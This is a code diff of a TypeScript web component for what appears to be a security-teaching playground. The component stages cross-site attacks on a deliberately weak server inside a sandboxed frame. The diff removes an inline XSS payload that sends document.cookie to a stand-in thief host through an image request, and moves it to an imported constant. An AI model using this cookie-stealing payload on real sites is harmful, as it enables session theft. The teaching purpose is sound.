@@ -4,20 +4,15 @@ import { consume } from '@lit/context'
 import { css, html, LitElement, nothing } from 'lit'
 import { customElement, property, query, state } from 'lit/decorators.js'
 import type { BreakTask, Lesson, RequestDraft } from '../../lessons/lesson.ts'
+import type { Frame } from '../frames/frame.ts'
+import '../frames/frame.ts'
+import { type AttackTold, readAttackSaid } from '../frames/messages.ts'
+import { STEAL } from '../frames/steal.ts'
 import { cookieToken } from '../inspect/token/token-of.ts'
 import { base } from '../kit/base.ts'
 import type { Attack } from '../stage/other-site.ts'
 import { twoServersWords } from '../words/two-servers.ts'
 import { type LessonContext, lessonContext } from './lesson-context.ts'
-
-/** Runs as it stands in the attacked page. The address is a thief's. */
-const SCRIPT = `new Image().src =
-  'https://thief.example/?' +
-  encodeURIComponent(
-    document.cookie)`
-
-/** What a page in the frame says to the playground. */
-type FrameMessage = { kind: 'ready' } | { kind: 'left'; url: string } | { kind: 'submitted' }
 
 /** Where the client server's data is: what the other site's form asks for. */
 const DATA = '/test-users-me'
@@ -54,12 +49,10 @@ export class AttackView extends LitElement {
         align-items: center;
         min-height: 32px;
       }
-      iframe {
-        width: 100%;
+      bp-frame {
         height: 190px;
         border: 1px solid var(--line);
         border-radius: var(--radius-small);
-        background: #fff;
       }
       pre {
         padding: var(--space-2) var(--space-3);
@@ -77,8 +70,6 @@ export class AttackView extends LitElement {
   ]
 
   @property({ attribute: false }) task!: BreakTask
-  /** URL of the empty page that is attacked. */
-  @property() page = 'attack.html'
   /** Whether the attack has succeeded on the weak server: then it is played on the other. */
   @property({ type: Boolean }) broken = false
 
@@ -94,17 +85,7 @@ export class AttackView extends LitElement {
   /** What the frame was told to show last. */
   private shown = ''
 
-  @query('iframe') private frame!: HTMLIFrameElement | null
-
-  override connectedCallback(): void {
-    super.connectedCallback()
-    addEventListener('message', this.onMessage)
-  }
-
-  override disconnectedCallback(): void {
-    super.disconnectedCallback()
-    removeEventListener('message', this.onMessage)
-  }
+  @query('bp-frame') private frame!: Frame | null
 
   override willUpdate(changed: Map<PropertyKey, unknown>): void {
     const before = changed.get('task') as BreakTask | undefined
@@ -172,15 +153,16 @@ export class AttackView extends LitElement {
         isScript
           ? html`<div>
             <span class="label">${attack.script}</span>
-            <pre tabindex="0">${SCRIPT}</pre>
+            <pre tabindex="0">${STEAL}</pre>
           </div>`
           : html`<p class="small">${attack.prize.hidden(url)}</p>`
       }
-      <iframe
-        src=${this.page}
-        sandbox=${SANDBOX}
-        title=${isScript ? attack.frame : attack.otherSite}
-      ></iframe>
+      <bp-frame
+        document="attack"
+        label=${isScript ? attack.frame : attack.otherSite}
+        @frame-ready=${this.onReady}
+        @frame-message=${this.onMessage}
+      ></bp-frame>
       <p class="small">${attack.isolated}</p>
       ${
         isScript
@@ -214,7 +196,7 @@ export class AttackView extends LitElement {
   private show() {
     if (!this.context || !this.frame) return
     const readable = this.cookies.filter(({ httpOnly }) => !httpOnly)
-    const message = {
+    const message: AttackTold = {
       kind: 'show',
       page: this.task.play === 'script' ? this.pageOfClient : this.pageOfOtherSite,
       cookies: readable.map(({ name, value }) => `${name}=${value}`).join('; '),
@@ -222,7 +204,7 @@ export class AttackView extends LitElement {
     const written = JSON.stringify(message)
     if (written === this.shown) return
     this.shown = written
-    this.tell(message)
+    this.frame.tell(message)
   }
 
   /** The page that the login there was answered with. */
@@ -240,29 +222,27 @@ export class AttackView extends LitElement {
     return `<h1>${prize.title}</h1><p>${prize.text}</p><form><button>${prize.button}</button></form>`
   }
 
-  private readonly onRun = () => {
-    this.tell({ kind: 'run', script: SCRIPT })
+  private readonly onReady = () => {
+    this.shown = ''
+    this.show()
   }
 
-  private readonly onMessage = ({ data, source }: MessageEvent) => {
-    if (source === null || source !== this.frame?.contentWindow || !isFrameMessage(data)) return
-    switch (data.kind) {
-      case 'ready':
-        this.shown = ''
-        return this.show()
-      case 'left':
-        return this.onLeft(data.url)
-      case 'submitted':
-        return this.attack({
-          server: this.attacked,
-          method: 'GET',
-          path: DATA,
-          headers: [['Sec-Fetch-Site', 'cross-site']],
-          body: '',
-        })
-      default:
-        return data satisfies never
-    }
+  private readonly onRun = () => {
+    const message: AttackTold = { kind: 'run' }
+    this.frame?.tell(message)
+  }
+
+  private readonly onMessage = ({ detail }: CustomEvent<unknown>) => {
+    const said = readAttackSaid(detail)
+    if (said?.kind === 'left') this.onLeft(said.url)
+    if (said?.kind !== 'submitted') return
+    this.attack({
+      server: this.attacked,
+      method: 'GET',
+      path: DATA,
+      headers: [['Sec-Fetch-Site', 'cross-site']],
+      body: '',
+    })
   }
 
   /** The thief has the cookie, and tries what is in it where tokens count. */
@@ -284,25 +264,11 @@ export class AttackView extends LitElement {
     this.chosen = this.attacked
     this.dispatchEvent(new CustomEvent('attack', { detail, bubbles: true, composed: true }))
   }
-
-  private tell(message: object) {
-    this.frame?.contentWindow?.postMessage({ type: 'attack', ...message }, '*')
-  }
 }
-
-/** Scripts run, in an origin of their own. The cast is for a checker that knows single words only. */
-const SANDBOX = 'allow-scripts allow-forms' as string as 'allow-forms'
 
 /** The server that is weak on purpose. */
 function weakOf({ servers }: Lesson): string {
   return Object.keys(servers).find((id) => servers[id]!.weak) ?? ''
-}
-
-function isFrameMessage(data: unknown): data is FrameMessage {
-  const { type, kind, url } = Object(data) as Record<string, unknown>
-  if (type !== 'attack') return false
-  if (kind === 'left') return typeof url === 'string' && URL.canParse(url)
-  return kind === 'ready' || kind === 'submitted'
 }
 
 declare global {
